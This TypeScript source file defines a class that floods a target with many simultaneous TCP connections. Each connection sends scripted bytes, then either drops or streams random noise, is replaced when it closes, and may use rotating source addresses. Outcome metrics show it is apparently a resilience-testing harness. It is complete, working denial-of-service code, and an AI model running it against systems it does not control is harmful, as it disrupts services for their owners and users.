import { randomBytes } from 'node:crypto'
import { connect, type Socket } from 'node:net'
import type { Script } from './attacks.ts'

/** What the attack did, and what came back. */
export interface Outcome {
  /** Connections that were accepted. */
  readonly opened: number
  /** Connections that were not, by the error. */
  readonly refused: Readonly<Record<string, number>>
  /** Highest number open at once. */
  readonly openAtOnce: number
  /** Ended by the other side. */
  readonly cut: number
  readonly sentBytes: number
  /** Everything the other side ever sent: strangers should read nothing at all. */
  readonly receivedBytes: number
  /** How long connections lived that the other side ended, in ms. */
  readonly lifetimeMs: { readonly median: number; readonly longest: number }
}

/** Where the attack goes. */
export interface Target {
  readonly host: string
  readonly port: number
  /** Our own addresses, one per connection in turn; the system's choice when there are none. */
  readonly from: readonly string[]
}

const POUR_BYTES = 64 * 1024
/** A refused connection is tried again after this, so that the attack does not only burn its own processor. */
const RETRY_MS = 20

/** Runs one script on many connections at once for a while; each that ends is replaced. */
export class Flood {
  readonly #target: Target
  readonly #script: Script
  readonly #sockets = new Set<Socket>()
  /** Those that were accepted, and when. */
  readonly #open = new Map<Socket, number>()
  readonly #lifetimes: number[] = []
  readonly #refused: Record<string, number> = {}
  readonly #noise = randomBytes(POUR_BYTES)
  /** How many more connections may be made; a recording is worth one each. */
  #left: number
  #running = true
  #tried = 0
  #opened = 0
  #openAtOnce = 0
  #cut = 0
  #sentBytes = 0
  #receivedBytes = 0

  constructor(target: Target, script: Script, connectionsMax = Number.POSITIVE_INFINITY) {
    this.#target = target
    this.#script = script
    this.#left = connectionsMax
  }

  /** Runs for `forMs` with `count` connections at once, then resets all that are left. */
  async run(count: number, forMs: number): Promise<Outcome> {
    for (let i = 0; i < count; i++) this.#connect()
    await new Promise((resolve) => setTimeout(resolve, forMs))
    this.#running = false
    for (const socket of this.#sockets) socket.resetAndDestroy()
    const lifetimes = this.#lifetimes.toSorted((one, other) => one - other)
    return {
      opened: this.#opened,
      refused: this.#refused,
      openAtOnce: this.#openAtOnce,
      cut: this.#cut,
      sentBytes: this.#sentBytes,
      receivedBytes: this.#receivedBytes,
      lifetimeMs: {
        median: Math.round(lifetimes[Math.floor(lifetimes.length / 2)] ?? 0),
        longest: Math.round(lifetimes.at(-1) ?? 0),
      },
    }
  }

  #connect(): void {
    if (!this.#running || this.#left <= 0) return
    this.#left -= 1
    const { host, port, from } = this.#target
    const localAddress = from[this.#tried++ % from.length]
    const socket = connect({
      host,
      port,
      noDelay: true,
      ...(localAddress === undefined ? {} : { localAddress }),
    })
    this.#sockets.add(socket)
    socket.on('connect', () => this.#onConnect(socket))
    socket.on('data', (bytes) => (this.#receivedBytes += bytes.length))
    socket.on('drain', () => this.#pour(socket))
    // The other side's end of the connection is the end of ours.
    socket.on('end', () => socket.destroy())
    socket.on('error', ({ code = 'other' }: NodeJS.ErrnoException) => {
      if (this.#running && !this.#open.has(socket)) this.#refused[code] = (this.#refused[code] ?? 0) + 1
    })
    socket.on('close', () => this.#onClose(socket))
  }

  #onConnect(socket: Socket): void {
    this.#opened += 1
    this.#open.set(socket, performance.now())
    this.#openAtOnce = Math.max(this.#openAtOnce, this.#open.size)
    const bytes = this.#script.bytes()
    this.#sentBytes += bytes.length
    if (bytes.length > 0) socket.write(bytes)
    if (this.#script.afterwards === 'drop') socket.resetAndDestroy()
    else this.#pour(socket)
  }

  #pour(socket: Socket): void {
    if (this.#script.afterwards !== 'pour') return
    while (socket.writable && !socket.writableNeedDrain) {
      this.#sentBytes += this.#noise.length
      socket.write(this.#noise)
    }
  }

  #onClose(socket: Socket): void {
    const since = this.#open.get(socket)
    this.#open.delete(socket)
    this.#sockets.delete(socket)
    if (!this.#running) return
    if (since === undefined) {
      setTimeout(() => this.#connect(), RETRY_MS)
      return
    }
    if (this.#script.afterwards !== 'drop') {
      this.#cut += 1
      this.#lifetimes.push(performance.now() - since)
    }
    this.#connect()
  }
}
